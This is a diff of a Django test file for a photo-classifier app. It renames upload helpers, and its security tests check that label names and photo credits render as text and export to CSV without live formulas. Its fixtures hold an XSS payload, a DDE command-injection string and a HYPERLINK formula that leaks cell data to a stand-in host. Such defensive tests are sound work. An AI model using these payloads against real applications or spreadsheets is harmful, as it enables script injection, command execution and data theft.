@@ -16,9 +16,9 @@ from django.utils.html import escape
 from classifiers.models import Classifier
 from classifiers.services.catalog import classifier_create
 from classifiers.services.training import training_run_create, training_run_execute
-from classifiers.services.uploads import examples_add_uploads
+from classifiers.services.uploads import photos_add_uploads
 from tests.classifiers.views.conftest import photo_upload
-from tests.fakes.images import photo
+from tests.fakes.images import photo as sample_photo
 from tests.urlwalk import site_routes
 from tests.worlds import full_classifier
 
@@ -26,7 +26,7 @@ EVIL = "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>"
 # What must never appear in a page's HTML: the markup of EVIL as markup.
 RAW = ["<img src=x", "<script>window.__pwned"]
 # Downloads rather than pages (the credits file is checked on its own below).
-FILES = {"model_download", "attribution_download", "example_image"}
+FILES = {"model_download", "attribution_download", "photo_image"}
 
 
 def assert_shown_as_text(html: str, where: str) -> None:
@@ -100,8 +100,8 @@ def test_progress_and_credits_carry_names_as_data_a_browser_will_not_run(ada, ev
 def test_the_try_it_answer_names_the_class_as_text(ada):
     classifier = classifier_create(owner=ada[0], name="Hats", label_names=[EVIL, "shoes"])
     hat, shoes = classifier.labels.get(name=EVIL), classifier.labels.get(name="shoes")
-    examples_add_uploads(label=hat, files=[photo_upload(f"hat-{n:04d}.jpg") for n in range(24, 33)])
-    examples_add_uploads(label=shoes, files=[photo_upload(f"shoes-{n:04d}.jpg") for n in range(23, 32)])
+    photos_add_uploads(label=hat, files=[photo_upload(f"hat-{n:04d}.jpg") for n in range(24, 33)])
+    photos_add_uploads(label=shoes, files=[photo_upload(f"shoes-{n:04d}.jpg") for n in range(23, 32)])
     with transaction.atomic():  # queued on commit, which this test's transaction holds back: run it here
         run = training_run_create(classifier=classifier)
     assert training_run_execute(run_id=run.id).status == "succeeded"
@@ -123,9 +123,9 @@ def test_the_try_it_answer_names_the_class_as_text(ada):
 def test_photo_credits_never_start_a_spreadsheet_cell_with_a_formula(ada):
     classifier = classifier_create(owner=ada[0], name="Sheets", label_names=["=cmd|' /C calc'!A0", "b"])
     label = classifier.labels.get(name__startswith="=")
-    [example] = examples_add_uploads(label=label, files=[SimpleUploadedFile("a.jpg", photo(7))]).added
-    example.title, example.author, example.license = '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)", "\t=1+1"
-    example.save()
+    [photo] = photos_add_uploads(label=label, files=[SimpleUploadedFile("a.jpg", sample_photo(7))]).added
+    photo.title, photo.author, photo.license = '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)", "\t=1+1"
+    photo.save()
     rows = list(csv.DictReader(io.StringIO(ada[1].get(
         reverse("attribution_download", args=[classifier.id, "csv"])).content.decode())))
     assert [(row["class"], row["title"], row["author"], row["license"]) for row in rows] == [
